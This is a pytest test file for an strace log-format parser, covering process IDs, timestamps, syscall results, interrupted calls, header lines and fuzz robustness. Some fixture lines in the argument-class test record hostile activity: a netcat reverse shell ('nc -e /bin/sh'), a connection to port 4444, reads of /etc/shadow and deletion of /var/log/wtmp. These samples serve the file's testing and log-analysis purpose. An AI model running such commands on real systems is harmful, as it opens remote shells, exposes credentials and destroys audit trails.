import time

import pytest
from hypothesis import given
from hypothesis import strategies as st

from trine.log_formats.log_event import HEADER, Header, Line, LogEvent
from trine.log_formats.strace import MOST_PENDING, Strace


def read(text: str, name: str = "trace.txt") -> list[LogEvent | Header | None]:
    form = Strace()
    form.begin(name, ())
    lines = [Line(0, number, line) for number, line in enumerate(text.split("\n"), start=1)]
    records = [record for line in lines for record in form.joiner.feed(line)]
    return [form.parse(record.text) for record in [*records, *form.joiner.finish()]]


def events(text: str, name: str = "trace.txt") -> list[tuple[str, str, str]]:
    """Process, event and result of each event; every line is one, or a header."""
    got = [each for each in read(text, name) if each != HEADER]
    assert all(isinstance(each, LogEvent) for each in got), got
    return [(each.entities["process"], str(each.event), each.attributes.get("result", "")) for each in got if each]


def event(line: str) -> LogEvent:
    (only,) = read(line)
    assert isinstance(only, LogEvent)
    return only


@pytest.mark.parametrize(
    ("line", "process", "seconds"),
    [
        ("close(3)                                = 0", "0", None),
        ("[pid 27245] close(3)                    = 0", "27245", None),
        ("[pid   345] close(3)                    = 0", "345", None),
        ("[pid 27245<sh>] close(3)                = 0", "27245", None),
        ("27245 close(3)                          = 0", "27245", None),
        ("27245<sh> close(3)                      = 0", "27245", None),
        ("5246  15:54:54.073311 close(3)          = 0", "5246", 57294.073311),
        ("15:54:54 close(3)                       = 0", "0", 57294.0),
        ("23:23:37 [  59] close(3)                = 0", "0", 84217.0),
        ("1714557600.123456 close(3)              = 0 <0.000009>", "0", 1714557600.123456),
        ("[pid 12] 1714557600.123456 [00007f83a5cc39e7] close(3) = 0", "12", 1714557600.123456),
        ("[pid 12] [????????????????] close(3) = 0", "12", None),
        ("     0.000250 [00007f83a5cc2c47] close(3) = 0 <0.000008>", "0", 0.00025),
        ("15:54:54.500000 (+     0.000093) close(3) = 0", "0", 57294.5),
    ],
)
def test_process_and_time_are_read_in_every_form(line: str, process: str, seconds: float | None):
    got = event(line)
    assert (got.event, got.entities["process"], got.attributes["result"]) == ("close", process, "ok")
    assert got.time == (None if seconds is None else pytest.approx(seconds, abs=1e-6))


def test_relative_times_add_up():
    text = "     0.000000 brk(NULL) = 0x5578\n     0.500000 close(3) = 0\n     0.250000 close(4) = 0"
    assert [each.time for each in read(text) if isinstance(each, LogEvent)] == [0.0, 0.5, 0.75]


@pytest.mark.parametrize(
    ("line", "name", "result"),
    [
        ('open("/etc/x", O_RDONLY) = -1 ENOENT (No such file or directory)', "open", "ENOENT"),
        (
            "wait4(-1, 0x7ffe7a390a3c, 0, NULL) = ? ERESTARTSYS (To be restarted if SA_RESTART is set)",
            "wait4",
            "ERESTARTSYS",
        ),
        ("exit_group(0)                           = ?", "exit_group", "unknown"),
        ("select(4, [3], NULL, NULL, {tv_sec=1, tv_usec=0}) = 0 (Timeout)", "select", "ok"),
        ("mmap(NULL, 8192, PROT_READ, MAP_PRIVATE, -1, 0) = 0x7faad1689000", "mmap", "ok"),
        ('write(1, ") = -1 EPERM", 12) = 12', "write", "ok"),
        ('write(1, "a \\") = -1 EPERM", 14) = -1 EPIPE (Broken pipe)', "write", "EPIPE"),
        ('write(2, "hello", 5hello)                    = 5', "write", "ok"),
        ('openat(AT_FDCWD</root>, "/etc/x", O_RDONLY) = 3</etc/x>', "openat", "ok"),
        ("restart_syscall(<... resuming interrupted nanosleep ...>) = 0", "restart_syscall", "ok"),
        ("wait4(-1, <unfinished ...>) = ?", "wait4", "unknown"),
        ("wait4(-1, <detached ...>", "wait4", "unfinished"),
        ("syscall_0x1c7(0x7ffd, 0x1) = -1 ENOSYS (Function not implemented)", "syscall_0x1c7", "ENOSYS"),
        ("????( <unfinished ...>", "????", "unfinished"),
    ],
)
def test_a_result_is_ok_or_an_error(line: str, name: str, result: str):
    got = event(line)
    assert (got.event, got.attributes["result"]) == (name, result)


def test_an_interrupted_call_is_one_event_with_its_result():
    text = """\
27244 vfork( <unfinished ...>
27245 execve("/usr/bin/ls", ["ls", "/etc"], 0x55aa /* 35 vars */ <unfinished ...>
27244 <... vfork resumed>)        = 27245
27244 wait4(-1,  <unfinished ...>
27245 <... execve resumed>)       = -1 EACCES (Permission denied)
27245 exit_group(1) = ?
27245 +++ exited with 1 +++
27244 <... wait4 resumed>[{WIFEXITED(s) && WEXITSTATUS(s) == 1}], 0, NULL) = 27245
27244 --- SIGCHLD {si_signo=SIGCHLD, si_code=CLD_EXITED, si_pid=27245, si_uid=0, si_status=1} ---"""
    assert events(text) == [
        ("27244", "vfork", "ok"),
        ("27245", "execve", "EACCES"),
        ("27245", "exit_group", "unknown"),
        ("27245", "exited", ""),
        ("27244", "wait4", "ok"),
        ("27244", "SIGCHLD", ""),
    ]


def test_an_interrupted_call_has_the_position_of_its_beginning():
    form = Strace()
    assert form.joiner.feed(Line(0, 7, "1 read(3,  <unfinished ...>")) == []
    assert form.joiner.feed(Line(0, 8, "2 close(3) = 0")) == [Line(0, 8, "2 close(3) = 0")]
    both = '1 read(3,  <unfinished ...>\n1 <... read resumed>"a", 1) = 1'
    assert form.joiner.feed(Line(0, 9, '1 <... read resumed>"a", 1) = 1')) == [Line(0, 7, both)]


def test_halves_of_a_call_are_events_of_their_own():
    first = '1 <... read resumed>"a", 1) = -1 EINTR (Interrupted system call)'
    text = f'{first}\n2 write(1, "b", 1 <unfinished ...>\n1 close(3) = 0'
    assert events(text) == [("1", "read", "EINTR"), ("1", "close", "ok"), ("2", "write", "unfinished")]


def test_a_call_that_never_resumed_comes_before_the_next_of_its_process():
    text = "1 pause( <unfinished ...>\n1 +++ killed by SIGKILL +++"
    assert events(text) == [("1", "pause", "unfinished"), ("1", "killed", "")]


ON_A_TERMINAL = """\
getpid()                                = 500
vfork(strace: Process 501 attached
 <unfinished ...>
[pid   501] close(4)                    = 0
[pid   500] <... vfork resumed>)        = 501
[pid   500] wait4(-1,  <unfinished ...>
[pid   501] write(2, "oops\\n", 5
)           = 5
[pid   501] +++ exited with 0 +++
<... wait4 resumed>NULL, 0, NULL)       = 501
--- SIGTERM {si_signo=SIGTERM, si_code=SI_USER, si_pid=500, si_uid=0} ---
+++ killed by SIGTERM +++"""


def test_the_first_process_is_the_same_whether_it_is_named_or_not():
    assert events(ON_A_TERMINAL) == [
        ("0", "getpid", "ok"),
        ("501", "close", "ok"),
        ("0", "vfork", "ok"),
        ("501", "write", "ok"),
        ("501", "exited", ""),
        ("0", "wait4", "ok"),
        ("0", "SIGTERM", ""),
        ("0", "killed", ""),
    ]


def test_a_file_per_process_names_it():
    form = Strace()
    form.begin("/var/tmp/trace.out.1234", ())
    first = form.parse("close(3) = 0")
    form.joiner.feed(Line(0, 2, "pause( <unfinished ...>"))
    form.begin("trace.out.1235.gz", ())
    second = form.parse("close(4) = 0")
    late = form.parse(form.joiner.finish()[0].text)
    form.begin("trace.txt", ())
    third = form.parse("close(4) = 0")
    got = [each.entities["process"] for each in (first, second, late, third) if isinstance(each, LogEvent)]
    assert got == ["1234", "1235", "1234", "0"]


@pytest.mark.parametrize(
    "line",
    [
        "",
        "strace: Process 27245 attached",
        "Process 12 attached",
        "strace: Process 27245 detached",
        "[ Process PID=345 runs in 32 bit mode. ]",
        " > /usr/lib/x86_64-linux-gnu/libc.so.6(__libc_start_main+0x80) [0x271ca]",
    ],
)
def test_lines_about_the_trace_are_headers(line: str):
    assert read(line) == [HEADER]


@pytest.mark.parametrize(
    "line",
    [
        "% time     seconds  usecs/call     calls    errors syscall",
        " 48.61    0.000157           4        34        13 openat",
        "May  1 10:00:00 web1 sshd[1]: Accepted password for ann",
        "main(argc, argv);",
        'open("/etc/pass',
        "27245 openat(AT_FDCWD, ",
    ],
)
def test_other_lines_and_cut_ones_are_not_of_this_format(line: str):
    assert read(line) == [None]


@pytest.mark.parametrize(
    ("line", "arguments"),
    [
        ('openat(AT_FDCWD, "/etc/shadow", O_RDONLY|O_CLOEXEC) = 3', "O_CLOEXEC O_RDONLY path:/etc/shadow"),
        (
            'execve("/usr/bin/nc", ["nc", "-e", "/bin/sh", "10.0.0.9"], 0x7f /* 9 vars */) = 0',
            "nc address flag:-e path:/bin",
        ),
        (
            'connect(3, {sa_family=AF_INET, sin_port=htons(4444), sin_addr=inet_addr("10.0.0.9")}, 16) = 0',
            "address port:high",
        ),
        ('read(3</etc/ld.so.cache>, "/etc/passwd", 832) = 11', "path:/etc"),
        ('write(1, "/etc/shadow", 11) = 11', ""),
        ("mmap(NULL, 8192, PROT_READ|PROT_EXEC, MAP_PRIVATE, -1, 0) = 0x7f", "MAP_PRIVATE PROT_EXEC PROT_READ"),
        ('unlink("/var/log/wtmp") = 0', "path:/var/log/wtmp"),
        ('newfstatat(3, "", {st_mode=S_IFREG|0644, st_size=1, ...}, AT_EMPTY_PATH) = 0', "AT_EMPTY_PATH"),
    ],
)
def test_arguments_are_coarse_classes(line: str, arguments: str):
    assert event(line).attributes.get("arguments", "") == arguments


lines = st.sampled_from(
    [*ON_A_TERMINAL.split("\n"), "1 read(3,  <unfinished ...>", "1 <... read resumed>) = 1", " > x"]
)


@given(st.lists(lines | st.text(max_size=40).map(lambda text: text.replace("\n", " ")), min_size=1, max_size=30))
def test_every_line_comes_back_once_and_nothing_breaks_the_format(texts: list[str]):
    form = Strace()
    records = [record for number, text in enumerate(texts) for record in form.joiner.feed(Line(0, number, text))]
    records += form.joiner.finish()
    assert sorted(line for record in records for line in record.text.split("\n")) == sorted(texts)
    for record in records:
        form.parse(record.text)


@given(st.text(max_size=100))
def test_no_text_breaks_the_format(text: str):
    for line in (text, f"read({text}", f"1 <... {text} resumed>", f"[pid 1] {text}(", f'open("{text}", O_RDONLY) = 3'):
        Strace().parse(line)


def test_memory_is_bounded_whatever_comes():
    form = Strace()
    given_back = sum(
        len(form.joiner.feed(Line(0, n, f"{n} read(3,  <unfinished ...>"))) for n in range(MOST_PENDING + 9)
    )
    assert given_back == 9
    assert len(form.joiner.finish()) == MOST_PENDING


@pytest.mark.parametrize("filling", ['"', "(", ") ", " = ", "<", "{", "A_", '"a"', "\\", "1", ") = ", "3</"])
def test_a_long_line_takes_no_time(filling: str):
    start = time.perf_counter()
    for begin in ("", "open(", '12 open("'):
        read(begin + filling * (200_000 // len(filling)))
    assert time.perf_counter() - start < 2
